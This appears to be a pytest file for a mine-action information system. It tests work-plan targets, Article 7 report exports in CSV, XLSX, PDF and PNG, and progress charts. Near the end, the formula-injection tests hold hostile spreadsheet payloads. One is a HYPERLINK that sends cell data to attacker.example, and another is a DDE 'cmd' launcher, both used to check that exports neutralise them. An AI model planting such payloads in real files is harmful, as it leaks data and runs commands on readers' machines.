    assert line["actual_m2"] == pytest.approx(geod_box(*R1), abs=TOL)
    assert line["achieved"] == pytest.approx(geod_box(*R1) / 50_000, rel=1e-6)
    assert data.scalar(text("SELECT count(*) FROM work_plan_target")) == 2
    proj = plan["projection"]
    assert proj["rate_m2_per_year"] == pytest.approx(geod_box(*R1) / 3, abs=TOL)
    assert proj["projected_completion_year"] >= 2022
    assert proj["deadline"] == get_settings().article4_deadline.isoformat()


def test_bad_work_plan_rows_name_row_and_field_and_write_nothing(data: Session) -> None:
    with pytest.raises(InvalidRequest) as caught:
        set_targets(
            data,
            [
                {"year": 2022, "province": "P-A", "method": "cleared", "target_m2": 10},
                {"year": 2022, "province": "P-A", "method": "cleared", "target_m2": -5},
                {"year": 2022, "province": "P-A", "method": "sweeping", "target_m2": 5},
            ],
            where="plan.csv",
        )
    assert "row 2, field target_m2" in caught.value.detail
    assert "row 3, field method" in caught.value.detail
    with pytest.raises(InvalidRequest, match="row 1, field province: unknown province code"):
        set_targets(
            data,
            [{"year": 2022, "province": "P-Z", "method": "cleared", "target_m2": 5}],
            where="plan.csv",
        )
    assert data.scalar(text("SELECT count(*) FROM work_plan_target")) == 0


def test_the_work_plan_and_the_marking_come_as_spreadsheets_with_the_jsons_figures(
    data: Session, client_as: ClientAs
) -> None:
    """The reports page offered Actions 18 and 19 as JSON only, which a reader cannot open
    (a review as a new user): CSV and XLSX hold the same rows, the work plan's with a total."""
    set_targets(
        data,
        [{"year": 2022, "province": "P-A", "method": "cleared", "target_m2": 50_000}],
        where="test",
    )
    client = client_as("viewer")
    plan = client.get("/api/v1/reports/workplan", params={"year": 2022}).json()
    csv_answer = client.get("/api/v1/reports/workplan", params={"year": 2022, "format": "csv"})
    assert csv_answer.headers["content-disposition"] == (
        'attachment; filename="workplan-2022-CMR.csv"'
    )
    rows = list(csv.DictReader(io.StringIO(csv_answer.text)))
    assert len(rows) == len(plan["lines"]) + 1
    (cleared,) = [r for r in rows if r["method"] == "cleared"]
    assert float(cleared["actual_m2"]) == pytest.approx(geod_box(*R1), abs=TOL)
    assert float(cleared["target_m2"]) == 50_000
    total = rows[-1]
    assert (total["admin_code"], total["method"]) == ("TOTAL", "all")
    assert float(total["actual_m2"]) == pytest.approx(plan["total"]["actual_m2"], abs=TOL)
    xlsx = client.get("/api/v1/reports/workplan", params={"year": 2022, "format": "xlsx"})
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    assert sheet.title == "Work plan" and sheet.max_row == len(rows) + 1
    marking = client.get("/api/v1/reports/marking").json()
    marked = client.get("/api/v1/reports/marking", params={"format": "csv"})
    assert [r["admin_code"] for r in csv.DictReader(io.StringIO(marked.text))] == [
        r["admin_code"] for r in marking
    ]
    page = client.get("/reports", params={"year": 2022}).text
    assert "/api/v1/reports/workplan?year=2022&contam=CMR&format=xlsx" in page
    # the year's marking, not today's: the year's page had linked today's (helper-100)
    assert "/api/v1/reports/marking?contam=CMR&as_of=2022-12-31&format=csv" in page


def test_a_report_of_the_year_so_far_says_its_period_so() -> None:
    """A 2026 report produced on 6 December said "1 January – 31 December 2026" (an IM
    officer's review): a file passed on looked like the whole year's."""
    assert reporting_period(2026, "2026-12-06") == "1 January – 6 December 2026, the year so far"
    assert reporting_period(2025, "2025-12-31") == "1 January – 31 December 2025"
    assert reporting_period(2025) == "1 January – 31 December 2025"
    # and its files' names say so, the one-table CSV saying nothing else
    so_far = {"year": 2026, "as_of": "2026-12-06", "contam": "CMR", "level": 1}
    named = formats.article7_filename(so_far, "csv", "1i")
    assert named == "article7-2026-to-2026-12-06-CMR-provinces-form-1i.csv"
    whole = {**so_far, "year": 2025, "as_of": "2025-12-31"}
    assert formats.article7_filename(whole, "pdf") == "article7-2025-CMR-provinces.pdf"


def test_api_serves_each_export_with_its_media_type(data: Session, client_as: ClientAs) -> None:
    client = client_as()
    xlsx = client.get("/api/v1/reports/article7", params={"year": 2022, "format": "xlsx"})
    assert xlsx.headers["content-type"].startswith("application/vnd.openxmlformats")
    assert load_workbook(io.BytesIO(xlsx.content)).sheetnames[0] == "Form 1(h)"
    pdf = client.get("/api/v1/reports/article7", params={"year": 2022, "format": "pdf"})
    assert pdf.headers["content-type"] == "application/pdf" and pdf.content[:4] == b"%PDF"
    # the scope in the file's name: two scopes of one year are two files
    assert 'filename="article7-2022-CMR-provinces.xlsx"' in xlsx.headers["content-disposition"]
    districts = client.get(
        "/api/v1/reports/article7",
        params={"year": 2022, "format": "csv", "level": 2, "contam": "ERW"},
    )
    assert 'filename="article7-2022-ERW-districts.csv"' in districts.headers["content-disposition"]
    png = client.get("/api/v1/reports/progress", params={"last_year": 2023, "format": "png"})
    assert png.headers["content-type"] == "image/png" and png.content[:4] == b"\x89PNG"
    # and drawn for a phone's width, as the reports page shows it there (a PNG's width is
    # the big-endian number at bytes 16-20)
    narrow = client.get(
        "/api/v1/reports/progress", params={"last_year": 2023, "format": "png", "narrow": "true"}
    )
    width, wide = (int.from_bytes(p.content[16:20], "big") for p in (narrow, png))
    assert width <= 420 and 2 * width < wide, (width, wide)  # (its labels set its margins)
    # shown where they are for showing, and saved under a name that says what they hold
    # (the priorities' CSV had filled the browser's tab: a walk-through at national scale)
    baseline = get_settings().article4_baseline.year
    assert png.headers["content-disposition"] == (
        f'inline; filename="progress-CMR-{baseline}-2023.png"'
    )
    html = client.get("/api/v1/reports/article7", params={"year": 2022, "format": "html"})
    assert html.headers["content-disposition"] == (
        'inline; filename="article7-2022-CMR-provinces.html"'
    )
    ranked = client.get("/api/v1/reports/priorities", params={"format": "csv", "contam": "ERW"})
    assert ranked.headers["content-disposition"] == (
        f'attachment; filename="priorities-{dt.date.today()}-ERW.csv"'
    )
    # a baseline in year 1 to 2200 took 3.5 s of the server each time (a third attack)
    ages = client.get("/api/v1/reports/progress", params={"baseline": "0001-01-03"})
    assert ages.status_code == 422 and "before 1900" in ages.text
    span = client.get(
        "/api/v1/reports/progress", params={"baseline": "1950-01-01", "last_year": 2100}
    )
    assert span.status_code == 422 and "covers 100 at most" in span.json()["detail"]
    assert client.get("/api/v1/reports/priorities", params={"format": "csv"}).text.startswith(
        "reference,"
    )
    put = client.put(
        "/api/v1/workplans/2023", json=[{"province": "P-B", "method": "NTS", "target_m2": 2000}]
    )
    assert put.status_code == 200 and put.json()["recorded"] == 1
    bad = client.put(
        "/api/v1/workplans/2023", json=[{"province": "P-Q", "method": "NTS", "target_m2": 2000}]
    )
    assert bad.status_code == 422
    assert bad.headers["content-type"].startswith("application/problem+json")
    assert "unknown province code" in bad.json()["detail"]
    unknown = client.get("/api/v1/reports/article7", params={"year": 2022, "format": "docx"})
    assert unknown.status_code == 422


def test_the_progress_chart_is_drawn_again_only_when_its_figures_change(
    data: Session, client_as: ClientAs, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The reports page shows the chart on every visit: matplotlib took 0.3 s each time."""
    drawn: list[dict[str, Any]] = []
    draw = formats.series_png
    monkeypatch.setattr(
        formats,
        "series_png",
        lambda series, **kw: drawn.append(series) or draw(series, **kw),
    )
    client = client_as()
    params = {"last_year": 2023, "format": "png"}
    first = client.get("/api/v1/reports/progress", params=params)
    again = client.get("/api/v1/reports/progress", params=params)
    assert again.content == first.content and len(drawn) == 1
    assert client.get("/api/v1/reports/progress", params={"last_year": 2022, "format": "png"})
    assert len(drawn) == 2  # another series, another chart
    record_releases(
        data, [NewRelease("R2", "H2", ReleaseMethod.CANCELLED, dt.date(2023, 2, 1), box(*H2))]
    )
    changed = client.get("/api/v1/reports/progress", params=params)
    assert len(drawn) == 3 and changed.content != first.content
    assert drawn[-1]["years"][-1]["released_m2"]["cancelled"] > 0


def test_cli_binary_formats_need_a_file_and_work_plan_import_is_all_or_nothing(
    committed_engine: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    url = committed_engine.url.render_as_string(hide_password=False)  # the CLI commits
    monkeypatch.setenv("IMS_DATABASE_URL", url)
    get_settings.cache_clear()
    try:
        runner = CliRunner()
        no_file = runner.invoke(
            cli_app, ["report", "article7", "--year", "2022", "--format", "pdf"]
        )
        assert no_file.exit_code == 2 and "-o FILE" in no_file.output
        plan = tmp_path / "plan.csv"
        plan.write_text("year,province,method,target_m2\n2030,NOWHERE,cleared,10\n")
        bad = runner.invoke(cli_app, ["workplan", "import", str(plan)])
        assert bad.exit_code == 2 and "row 1, field province" in bad.output
        assert "Traceback" not in bad.output
        plan.write_text("year,province\n2030,X\n")
        assert (
            "needs the columns" in runner.invoke(cli_app, ["workplan", "import", str(plan)]).output
        )
    finally:
        get_settings.cache_clear()


FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"open")'


def test_a_formula_in_the_data_stays_text_in_every_spreadsheet(
    session: Session, client_as: ClientAs
) -> None:
    # A reference written as a formula was run by spreadsheet programs from the priorities
    # XLSX and CSV (issue 13, item 11); names from boundaries reach the Article 7 exports.
    load_boundaries(
        session,
        [
            BoundaryFeature("P-A", "=1+2 Province", MultiPolygon([box(102.0, 19.0, 102.5, 20.0)])),
        ],
        level=1,
    )
    second = box(102.2, 19.6, 102.21, 19.61)
    record_hazards(
        session,
        [
            NewHazard(FORMULA, HazardStatus.CHA, box(*H1), dt.date(2020, 1, 1)),
            NewHazard("@SUM(1)", HazardStatus.SHA, second, dt.date(2020, 1, 1)),
        ],
    )
    client = client_as()
    book = load_workbook(
        io.BytesIO(client.get("/api/v1/reports/priorities", params={"format": "xlsx"}).content)
    )
    cells = [c for row in book.active.iter_rows() for c in row]  # type: ignore[union-attr]
    assert FORMULA in [c.value for c in cells]
    assert all(c.data_type != "f" for c in cells)
    listed = client.get("/api/v1/reports/priorities", params={"format": "csv"}).text
    rows = list(csv.reader(io.StringIO(listed)))
    references = [row[0] for row in rows[1:]]
    assert "'" + FORMULA in references and "'@SUM(1)" in references
    assert not any(v.startswith(("=", "@", "+")) for row in rows for v in row)
    article7 = client.get(
        "/api/v1/reports/article7", params={"year": 2021, "format": "xlsx"}
    ).content
    sheets = load_workbook(io.BytesIO(article7))
    assert all(
        c.data_type != "f" for ws in sheets.worksheets for row in ws.iter_rows() for c in row
    )
    table = client.get("/api/v1/reports/article7", params={"year": 2021, "format": "csv"}).text
    assert "'=1+2 Province" in table
    # Numbers keep their sign: a negative figure is data, not a formula.
    assert csv_value("-12.5") == "-12.5" and csv_value("-x") == "'-x"


def test_a_formula_after_a_semicolon_stays_inside_its_cell() -> None:
    """A spreadsheet that splits on ";" cut ``x;=cmd|...`` into a cell that began a
    formula, quoted or not (found by an attack on our own instance)."""
    remarks = ["x;=cmd|' /C calc'!A0", 'a; "@SUM(1)', "b\t+1", "BLU-26:10;BLU-61:5"]
    remarks += ["Ban Na\r=HYPERLINK(1)", "ok\n@SUM(1+1)", " =1+1"]  # an attack on the first
    text = csv_text([["reference", "remarks", "area_m2"], *[["H-1", r, -12.5] for r in remarks]])
    assert text.splitlines()[1] == "H-1,x;'=cmd|' /C calc'!A0,-12.5"
    assert text.splitlines()[4] == "H-1,BLU-26:10;BLU-61:5,-12.5"  # nothing to guard: as it is
    for separator in (",", ";", "\t"):
        # as a spreadsheet may read it: a CR or an LF anywhere begins a row
        rows = re.split(r"\r\n|\r|\n", text)
        cells = [c for row in csv.reader(rows, delimiter=separator) for c in row]
        assert not [c for c in cells if c.lstrip(' "').startswith(("=", "+", "@"))]


def test_the_progress_charts_legend_lies_below_its_bars() -> None:
    """Inside the axes (upper right) the legend hid the last years' bars and the line."""
    years = [
        {
            "year": year,
            "added_m2": 0.0,
            "released_m2": {"cancelled": 1e6 * (year - 2009), "reduced": 2e6, "cleared": 3e6},
            "remaining_end_m2": 5e8 - 1e7 * (year - 2009),
        }
        for year in range(2010, 2026)
    ]
    fig = series_figure({"contam": "CMR", "baseline": "2010-01-01", "years": years})
    try:
        fig.canvas.draw()
        ax = fig.axes[0]
        legend = ax.get_legend()
        assert legend is not None
        assert [t.get_text() for t in legend.get_texts()][-1] == "remaining at year end (km²)"
        below = legend.get_window_extent()
        assert below.y1 < ax.get_window_extent().y0  # wholly under the plotting area
    finally:
        plt.close(fig)


def test_the_progress_charts_line_starts_at_the_first_year_with_records() -> None:
    """Drawn as 0 km² remaining, the years before anything was recorded read as a country
    cleared, then contaminated (a first-time user's review)."""
    years = [
        {
            "year": year,
            "added_m2": 0.0,
            "released_m2": dict.fromkeys(("cancelled", "reduced", "cleared"), 0.0)
            if year < 2012
            else {"cancelled": 1e6, "reduced": 0.0, "cleared": 0.0},
            "remaining_end_m2": 0.0 if year < 2012 else 2e8,
        }
        for year in range(2010, 2016)
    ]
    fig = series_figure({"contam": "CMR", "baseline": "2010-01-01", "years": years})
    try:
        (line,) = fig.axes[1].get_lines()
        assert list(line.get_xdata()) == [2012, 2013, 2014, 2015]
        assert list(line.get_ydata()) == [200.0] * 4
    finally:
        plt.close(fig)
